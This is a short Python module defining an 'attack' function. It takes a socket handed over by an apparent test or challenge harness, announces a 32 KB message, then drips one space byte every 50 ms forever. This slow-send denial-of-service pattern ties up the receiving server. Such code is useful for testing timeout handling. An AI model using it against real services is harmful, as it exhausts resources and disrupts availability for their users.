import socket
import time


def attack(clues):
    mine = socket.socket(fileno=clues["channel"])
    mine.sendall((1 << 15).to_bytes(4, "big"))
    while True:
        mine.sendall(b" ")
        time.sleep(0.05)
